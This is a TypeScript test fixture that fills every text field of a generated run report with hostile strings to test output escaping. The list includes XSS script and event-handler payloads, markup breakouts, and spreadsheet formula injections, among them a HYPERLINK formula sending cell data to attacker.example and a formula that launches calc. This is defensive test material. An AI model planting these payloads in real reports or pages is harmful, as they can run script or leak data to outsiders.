import type { RunReport } from '../../src/reporting/report/run-report.ts';
import { withEnrolment } from './report-fixtures.ts';

/** What a portal or a roster may have put into a name. */
const HOSTILE = [
  '<script>window.hacked = true</script>',
  '"><img src=x onerror="window.hacked = true">',
  "' onmouseover='window.hacked = true",
  '</style><script>window.hacked = true</script>',
  ']]><x/>&amp;&#60;',
  '=HYPERLINK("https://attacker.example/?"&A1;"see")',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r+1',
  '-2+3',
  '\uff1d1+1',
  'bell \u0007 null \0 noncharacter \uffff half \ud800 turned \u202e left',
  'M'.repeat(400),
] as const;

/** The sample, with a hostile text in every place that takes one, in SIRETs done and failed. */
export function hostileRun(report: RunReport): RunReport {
  return HOSTILE.reduce<RunReport>(
    (run, text, index) =>
      withEnrolment(run, index % run.enrolments.length, ({ result, failures }) => ({
        result: {
          ...result,
          structureName: text,
          connection: { ...result.connection, applicationName: text, state: text },
          account: { ...result.account, login: text, expiresOn: text },
        },
        failures: failures.map((failure) => ({
          ...failure,
          what: text,
          expected: text,
          found: HOSTILE.join(' '),
          next: text,
        })),
      })),
    { ...report, portal: HOSTILE[0], version: HOSTILE[1], stoppedBecause: HOSTILE[1] },
  );
}
